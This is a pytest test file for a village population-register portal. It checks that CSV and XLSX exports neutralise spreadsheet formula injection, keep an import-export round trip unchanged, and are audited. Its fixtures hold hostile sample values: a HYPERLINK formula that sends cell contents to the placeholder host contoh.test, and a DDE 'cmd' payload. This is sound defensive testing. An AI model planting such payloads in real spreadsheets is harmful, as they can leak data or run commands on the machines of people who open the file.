"""Export of a village's list (CSV and XLSX, the register export's columns): formula injection
neutralised, the round trip import → export → import a no-op, every export audited."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from portal.audit import AuditEntry
from portal.blueprints.register.exporting import neutralise
from portal.blueprints.register.reading import COLUMNS
from portal.demo import synthetic
from portal.extensions import db
from tests.factories import DESA_PASAR_IPUH
from tests.register.conftest import counts, csv_bytes, household, person

DANGEROUS = {
    "nama": '=HYPERLINK("http://contoh.test/?x="&A1,"klik")',
    "alamat": "=1+1",
}
NAMES = ["-Budi", "+62 Ani", "@Rina", "=cmd|' /C calc'!A0"]


@pytest.fixture
def rows(pasar_ipuh):
    rows, _ = synthetic.generate([pasar_ipuh], families_per_village=6, seed=31, accents=True)
    first_kk = rows[0]["nomor_kk"]
    for row in rows:
        if row["nomor_kk"] == first_kk:
            row["alamat"] = DANGEROUS["alamat"]
    rows[0]["nama"] = DANGEROUS["nama"]
    for row, name in zip(rows[1:], NAMES, strict=False):
        row["nama"] = name
    return rows


@pytest.fixture
def imported(sekretaris, importer, rows):
    record = importer.run(csv_bytes(rows), DESA_PASAR_IPUH)
    assert record.summary["rows_rejected"] == 0, record.issues
    assert person(rows[0]["nomor_nik"]).name == DANGEROUS["nama"]  # stored as typed
    return rows


def export_csv(client) -> list[list[str]]:
    response = client.get(f"/keluarga/desa/{DESA_PASAR_IPUH}/ekspor.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.data.startswith(b"\xef\xbb\xbf")  # Excel reads the UTF-8 right
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def export_xlsx(client) -> list[list[object]]:
    response = client.get(f"/keluarga/desa/{DESA_PASAR_IPUH}/ekspor.xlsx")
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    sheet = load_workbook(io.BytesIO(response.data)).active
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate  # never a live formula
    return [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]


def test_csv_and_xlsx_have_the_same_columns_and_rows(imported, client):
    from_csv = export_csv(client)
    from_xlsx = export_xlsx(client)
    assert tuple(from_csv[0]) == COLUMNS
    assert tuple(from_xlsx[0]) == COLUMNS
    assert from_csv == [[str(v) for v in row] for row in from_xlsx]
    assert len(from_csv) - 1 == len(imported)

    by_nik = {row[COLUMNS.index("nomor_nik")]: dict(zip(COLUMNS, row, strict=True))
              for row in from_csv[1:]}  # fmt: skip
    for source in imported:
        exported = by_nik[source["nomor_nik"]]
        assert exported["nomor_kk"] == source["nomor_kk"]  # 16 digits, as text
        assert exported["kode_wilayah"] == DESA_PASAR_IPUH
        assert exported["tanggal_lahir"] == source["tanggal_lahir"]
        assert exported["desa_kelurahan"] == "Pasar Ipuh"
        assert exported["kecamatan"] == "Ipuh"
        assert exported["rt"] == source["rt"]


def test_formula_cells_are_neutralised(imported, client):
    for exported in (export_csv(client), export_xlsx(client)):
        header, *body = exported
        names = {row[header.index("nama")] for row in body}
        alamat = {row[header.index("alamat")] for row in body}
        assert "'" + DANGEROUS["nama"] in names
        assert DANGEROUS["nama"] not in names
        for name in NAMES:
            assert "'" + name in names and name not in names
        assert "'=1+1" in alamat and "=1+1" not in alamat
        for row in body:
            for value in row:
                assert not str(value).startswith(("=", "+", "-", "@", "\t", "\r")), value


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_neutralise_every_dangerous_start(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Budi", "1706052006", "", None, "a=b", "'quoted"])
def test_neutralise_leaves_the_rest(value):
    assert neutralise(value) == ("" if value is None else value)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_import_export_import_changes_nothing(imported, client, importer, fmt):
    data = client.get(f"/keluarga/desa/{DESA_PASAR_IPUH}/ekspor.{fmt}").data
    before = counts()
    record = importer.preview(data, DESA_PASAR_IPUH, f"ekspor.{fmt}")
    summary = record.summary
    assert record.issues == []
    for key in ("add", "change", "remove", "reactivate", "held", "rows_rejected"):
        assert summary[key] == 0, (key, summary["samples"])
    assert summary["unchanged"] == len({row["nomor_kk"] for row in imported})
    record = importer.confirm(record.id)
    assert record.status == "done"
    assert counts() == before
    assert person(imported[0]["nomor_nik"]).name == DANGEROUS["nama"]
    assert household(imported[0]["nomor_kk"]).alamat == "=1+1"


def test_export_is_audited_and_not_cached(imported, client):
    response = client.get(f"/keluarga/desa/{DESA_PASAR_IPUH}/ekspor.xlsx")
    assert response.headers["Cache-Control"] == "no-store"
    assert f'filename="prelist-{DESA_PASAR_IPUH}.xlsx"' in response.headers["Content-Disposition"]
    client.get(f"/keluarga/desa/{DESA_PASAR_IPUH}/ekspor.csv")
    entries = list(
        db.session.execute(
            select(AuditEntry).where(AuditEntry.action == "register.export")
            .order_by(AuditEntry.id)
        ).scalars()
    )  # fmt: skip
    assert [e.details["format"] for e in entries] == ["xlsx", "csv"]
    assert {e.region_code for e in entries} == {DESA_PASAR_IPUH}
    assert {e.object_id for e in entries} == {DESA_PASAR_IPUH}


def test_unknown_export_format_is_404(imported, client):
    assert client.get(f"/keluarga/desa/{DESA_PASAR_IPUH}/ekspor.pdf").status_code == 404


def test_removed_families_are_not_exported(imported, client, importer):
    gone = imported[-1]["nomor_kk"]
    importer.run(csv_bytes([row for row in imported if row["nomor_kk"] != gone]), DESA_PASAR_IPUH)
    assert household(gone).status == "removed"
    kks = {row[COLUMNS.index("nomor_kk")] for row in export_csv(client)[1:]}
    assert gone not in kks and kks
